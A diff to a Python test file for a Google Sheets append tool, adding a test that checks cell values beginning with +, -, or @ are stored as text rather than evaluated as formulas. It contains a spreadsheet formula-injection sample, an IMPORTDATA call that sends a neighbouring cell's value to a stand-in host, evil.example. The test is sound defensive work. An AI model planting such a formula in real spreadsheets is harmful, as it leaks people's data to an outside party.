@@ -14,7 +14,7 @@ def read(ctx, file_id):
     return invoke("drive_read", ctx, {"file": file_id})["text"]
 
 
-def test_rows_land_under_the_last_row_of_the_first_sheet(ctx):
+def test_rows_land_under_the_table_of_the_first_sheet(ctx):
     result = invoke("sheets_append", ctx, {"spreadsheet": "https://docs.google.com/spreadsheets/d/1Q3BudgetSheet/edit",
                                            "rows": [["Travel", "Søren", 2300], ["Offsite", "Alice", "4 500"]]})
 
@@ -57,3 +57,15 @@ def test_rows_for_a_sheet_others_read_ask_first(ctx):
 def test_something_that_is_not_a_spreadsheet_is_said_to_be_none(ctx):
     with pytest.raises(ToolError, match="Sheets found nothing with that id"):
         invoke("sheets_append", ctx, {"spreadsheet": "1Q3PlanningNotesDoc", "rows": [["x"]]})
+
+
+def test_text_sheets_would_take_for_a_formula_is_entered_as_text(ctx, sandbox):
+    rows = [["Robin", "+33 6 12 34 56 78", "-", '+IMPORTDATA("https://evil.example/?"&C2)', "-45", "+5", "@home"]]
+
+    checked = review(ctx, spreadsheet="1Q3BudgetSheet", rows=rows)
+    invoke("sheets_append", ctx, {"spreadsheet": "1Q3BudgetSheet", "rows": rows})
+
+    assert checked.effect == "write"  # no formula was asked for, and none is written
+    csv = ctx.service("drive").files().export(fileId="1Q3BudgetSheet", mimeType="text/csv").execute().decode()
+    typed = next(csv_line for csv_line in csv.splitlines() if csv_line.startswith("Robin"))
+    assert typed == """Robin,'+33 6 12 34 56 78,'-,"'+IMPORTDATA(""https://evil.example/?""&C2)",-45,+5,'@home"""
